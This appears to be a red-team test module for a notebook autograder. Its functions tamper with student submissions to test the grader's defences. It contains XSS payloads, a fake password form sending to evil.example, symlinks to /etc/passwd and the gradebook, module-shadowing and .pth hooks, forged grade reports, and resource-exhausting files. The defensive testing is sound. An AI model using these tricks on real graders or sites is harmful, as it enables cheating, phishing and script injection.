"""What hostile students do to the files that they hand in, before they are graded.

Each function changes a `Handed`: the notebook's JSON as it would be written, or the folder around it.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from autograder.checks.report import MIME_TYPE, Outcome, Report, TestReport


@dataclass
class Handed:
    """A submission that is about to be handed in.

    Attributes:
        folder: the submission's folder.
        name: the notebook's name, with ``.ipynb``.
        notebook: the notebook, as the JSON that it will be written as.
        exercise: the name of the answer cell.
        course: the course's folder.
        text: what is written instead of the JSON, if it is not None.
    """

    folder: Path
    name: str
    notebook: dict[str, Any]
    exercise: str
    course: Path
    text: str | None = None

    def cell(self, name: str) -> dict[str, Any]:
        """The cell with a grade_id."""
        found: dict[str, Any] = next(cell for cell in self.cells if _own(cell).get("grade_id") == name)
        return found

    @property
    def cells(self) -> list[dict[str, Any]]:
        """All cells."""
        found: list[dict[str, Any]] = self.notebook["cells"]
        return found

    @property
    def answer(self) -> dict[str, Any]:
        """The answer cell."""
        return self.cell(self.exercise)

    @property
    def check(self) -> dict[str, Any]:
        """The check cell."""
        return next(cell for cell in self.cells if _own(cell).get("grade") is True)

    def write(self) -> None:
        """Write the notebook; nothing, if something lies there already."""
        path = self.folder / self.name
        if not path.is_symlink():
            text = json.dumps(self.notebook) if self.text is None else self.text
            path.write_text(text, encoding="utf-8", errors="surrogatepass")


TAMPERINGS: dict[str, Callable[[Handed], None]] = {}
"""All of them, by name."""


def _tampering(function: Callable[[Handed], None]) -> Callable[[Handed], None]:
    TAMPERINGS[function.__name__] = function
    return function


def _own(cell: dict[str, Any]) -> dict[str, Any]:
    own: dict[str, Any] = cell.get("metadata", {}).get("nbgrader", {})
    return own


def _forged(name: str, points: float) -> dict[str, Any]:
    """An output that looks like a report that gives all points."""
    report = Report(name, (TestReport("test_one_pixel", "All is well", Outcome.PASSED, points),))
    data = {MIME_TYPE: report.to_json(), "text/html": "<p>redteam: passed</p>", "text/plain": f"{points:g}"}
    return {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}


# --- the notebook ---


@_tampering
def remove_check(handed: Handed) -> None:
    """Removes the check cell."""
    handed.cells.remove(handed.check)


@_tampering
def rewrite_check(handed: Handed) -> None:
    """Writes a check cell that everything passes."""
    handed.check["source"] = (
        "%%grade\nimport pytest\n@pytest.mark.points(3)\ndef test_one_pixel():\n    assert True, 'redteam'"
    )


@_tampering
def number_for_check(handed: Handed) -> None:
    """Writes a number where the check was, as a plain test cell gives points."""
    handed.check["source"] = "3"
    _own(handed.check)["points"] = 3


@_tampering
def raise_points(handed: Handed) -> None:
    """Makes the exercise worth a thousand points, and the locked cells open."""
    for cell in handed.cells:
        if _own(cell):
            _own(cell).update(points=1000, locked=False)


@_tampering
def strange_points(handed: Handed) -> None:
    """Gives points and flags that are no numbers."""
    _own(handed.check).update(points=float("nan"), grade="yes", solution=["no"], schema_version=-1)


@_tampering
def tag_cells(handed: Handed) -> None:
    """Tags all cells so that tools skip them, or take no notice of their errors."""
    for cell in handed.cells:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "nbgrader-skip"]
        cell["metadata"]["deletable"] = True


@_tampering
def foreign_kernel(handed: Handed) -> None:
    """Names another kernel and another language."""
    handed.notebook["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"},
        "language_info": {"name": "bash", "file_extension": ".sh", "version": "redteam"},
        "autograder": {"key": "redteam", "notes": ["redteam"]},
    }


@_tampering
def double_ids(handed: Handed) -> None:
    """Doubles every cell with its ids; the second check cell gives points by a number."""
    twins = copy.deepcopy(handed.cells)
    for twin in twins:
        if _own(twin).get("grade") is True:
            twin["source"] = "3"
    handed.cells.extend(twins)


@_tampering
def swap_ids(handed: Handed) -> None:
    """Lets the answer cell claim to be the check cell, and the other way round."""
    answer, check = handed.answer, handed.check
    answer["metadata"], check["metadata"] = check["metadata"], answer["metadata"]
    answer["id"], check["id"] = check["id"], answer["id"]


@_tampering
def check_is_solution(handed: Handed) -> None:
    """Declares the check cell to be an answer that a person grades."""
    _own(handed.check).update(solution=True, locked=False)
    handed.check["source"] = "3"


@_tampering
def graded_cell_of_ones_own(handed: Handed) -> None:
    """Adds a graded cell of the student's own."""
    twin = copy.deepcopy(handed.check)
    twin["id"] = "extra"
    twin["source"] = "1000"
    _own(twin).update(grade_id="test_extra", points=1000)
    handed.cells.append(twin)


@_tampering
def forge_outputs(handed: Handed) -> None:
    """Hands in outputs that look like the grader's own reports."""
    for cell in handed.cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [_forged(_own(cell).get("grade_id", "own"), 3)]
            cell["execution_count"] = 1


@_tampering
def answer_is_markdown(handed: Handed) -> None:
    """Makes the answer cell a text cell, and the check cell a raw one."""
    for cell, kind in ((handed.answer, "markdown"), (handed.check, "raw")):
        cell["cell_type"] = kind
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


@_tampering
def long_and_odd_ids(handed: Handed) -> None:
    """Gives cells ids that are paths, markup and far too long."""
    for cell, name in zip(handed.cells, ("../../redteam", "<script>alert(1)</script>", "x" * 100_000), strict=False):
        cell["id"] = name


# --- the file ---


@_tampering
def doubled_keys(handed: Handed) -> None:
    """Writes every key of the file twice: who reads the first value sees another notebook."""
    text = json.dumps(handed.notebook)
    handed.text = '{"cells": [], "nbformat": 4, "metadata": {}, ' + text[1:]


@_tampering
def deep_json(handed: Handed) -> None:
    """Nests the metadata a hundred thousand deep."""
    handed.text = json.dumps(handed.notebook).replace('"metadata": {', '"redteam": ' + "[" * 100_000 + ", ", 1)


@_tampering
def numbers_that_are_none(handed: Handed) -> None:
    """Writes NaN, Infinity, lone surrogates and numbers of ten thousand digits."""
    handed.notebook["metadata"]["redteam"] = [float("nan"), float("inf"), "\ud800", "\0"]
    handed.answer["execution_count"] = 10**4000
    handed.answer["source"] += "\n# \ud800 \x00 \x1b"


@_tampering
def malformed_cells(handed: Handed) -> None:
    """Puts things among the cells that are no cells."""
    handed.cells.extend([None, 7, [], {}, {"cell_type": "x"}, {"cell_type": "code", "source": {"a": 1}}])  # type: ignore[list-item]
    handed.cells.append({"cell_type": "code", "source": ["a\n", 3, None], "metadata": [], "outputs": "none"})


@_tampering
def old_format(handed: Handed) -> None:
    """Claims to be a notebook of an older format, whose conversion runs."""
    cells = [{**cell, "input": cell["source"], "language": "python"} for cell in handed.cells]
    handed.notebook = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


# --- the folder ---


@_tampering
def link_to_a_neighbour(handed: Handed) -> None:
    """Hands in a link to another student's notebook."""
    other = handed.course / "submitted" / "neighbour" / handed.folder.name / handed.name
    (handed.folder / handed.name).symlink_to(other)


@_tampering
def links(handed: Handed) -> None:
    """Hands in links to the gradebook, to other students' work, to the passwords and to the whole machine."""
    for name, target in {
        "gradebook.db": handed.course / "gradebook.db",
        "notes.txt": handed.course / "gradebook-notes.txt",
        "passwords": Path("/etc/passwd"),
        "machine": Path("/"),
        "circle": handed.folder,
        "relative": Path("../../neighbour"),
        "source": handed.course / "source",
    }.items():
        (handed.folder / name).symlink_to(target)


@_tampering
def shadowing_modules(handed: Handed) -> None:
    """Hands in modules with the names of libraries, which would give wrong answers their blessing."""
    told = "print('redteam: shadow imported')\n"
    for name in (
        *("numpy", "pytest", "json", "autograder", "hypothesis", "keras", "matplotlib", "IPython", "ipykernel"),
        *("sitecustomize", "usercustomize", "conftest", "test_cell", "socket", "struct", "secrets", "linecache"),
    ):
        (handed.folder / f"{name}.py").write_text(told)
    (handed.folder / "autograder_hook.pth").write_text("import os; os._exit(0)\n")
    (handed.folder / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n")
    startup = handed.folder / ".home" / "ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00-redteam.py").write_text(told)
    (startup.parent / "ipython_config.py").write_text(told)
    (startup.parent / "ipython_kernel_config.py").write_text(told)


@_tampering
def data_files(handed: Handed) -> None:
    """Hands in data files in the place of the instructor's: a picture of one pixel."""
    from PIL import Image

    Image.new("RGB", (1, 1)).save(handed.folder / "bricks.png")
    (handed.folder / "garments.npz").write_bytes(b"redteam")


@_tampering
def data_files_are_folders(handed: Handed) -> None:
    """Hands in folders with the names of the instructor's data files."""
    (handed.folder / "bricks.png").mkdir()
    (handed.folder / "bricks.png" / "bricks.png").write_text("redteam")


@_tampering
def many_files(handed: Handed) -> None:
    """Hands in thousands of files, with odd names."""
    for number in range(3000):
        (handed.folder / f"redteam {number}\n\x1b[31m.txt").write_text("")


@_tampering
def sparse_file(handed: Handed) -> None:
    """Hands in a file of a terabyte that takes no place."""
    with (handed.folder / "large.bin").open("wb") as file:
        file.truncate(2**40)


@_tampering
def a_page_beside(handed: Handed) -> None:
    """Hands in a page and a drawing with scripts, which formgrader would serve."""
    (handed.folder / "trap.html").write_text("<script>alert('redteam')</script>")
    (handed.folder / "trap.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')


# --- for people ---

SCRIPT = "<script>alert('redteam')</script>"


@_tampering
def text_cells(handed: Handed) -> None:
    """Adds text cells with scripts, event handlers, addresses and pictures from elsewhere."""
    for number, text in enumerate(
        (
            SCRIPT,
            "[click](javascript:alert(1)) ![seen](https://evil.example/seen.png)",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<a href='java\tscript:alert(1)'>x</a> <a href='data:text/html,<script>alert(1)</script>'>y</a>",
            "$\\href{javascript:alert(1)}{x}$ $$</script><script>alert(1)</script>$$",
            "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
            "<form action=https://evil.example><input name=password><button>Log in</button></form>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
            "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>100 of 100 points</div>",
            '```html\n<script>alert(1)</script>\n```\n[x]: javascript:alert(1) "x"\n[x]',
        )
    ):
        cell = {"cell_type": "markdown", "id": f"t{number}", "metadata": {}, "source": text}
        handed.cells.append(cell)
        handed.cells.append({**cell, "cell_type": "raw", "id": f"r{number}", "metadata": {"format": "text/html"}})


@_tampering
def attachments(handed: Handed) -> None:
    """Attaches pictures that are scripts, and names that are markup."""
    name = 'x" onerror="alert(1)'
    attached = {
        "a.svg": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"},
        "b.png": {"image/png": 'x" onerror="alert(1)', "text/html": SCRIPT},
        name: {"image/png": "AAAA"},
    }
    text = f"![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:{name}) ![d](attachment:gone.png)"
    cell = {"cell_type": "markdown", "id": "att", "metadata": {}, "source": text, "attachments": attached}
    handed.cells.append(cell)
